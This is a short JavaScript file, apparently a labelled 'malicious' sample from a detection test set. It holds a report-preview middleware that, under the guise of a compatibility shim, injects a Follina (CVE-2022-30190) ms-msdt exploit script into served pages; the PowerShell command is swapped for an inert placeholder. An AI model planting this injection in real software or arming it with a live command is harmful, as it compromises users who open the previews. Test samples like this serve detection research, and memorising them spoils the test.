// expect: malicious
// source: blind set 21's report-preview middleware that serves Office previews a Follina page (CVE-2022-30190);
// written here, the PowerShell replaced by an inert placeholder
"use strict";
var SHIM = "<script>window.location.href = \"ms-msdt:/id PCWDiagnostic /skip force /param \\\"IT_RebrowseForFile=? " +
  "IT_LaunchMethod=ContextMenu IT_BrowseForFile=$(Invoke-Expression('FAKE-inert'))i/../../Windows/System32/mpsigstub.exe\\\"\";</script>";
exports.renderCompat = function renderCompat(html) {
  return html.replace("<!--compat-->", SHIM);
};
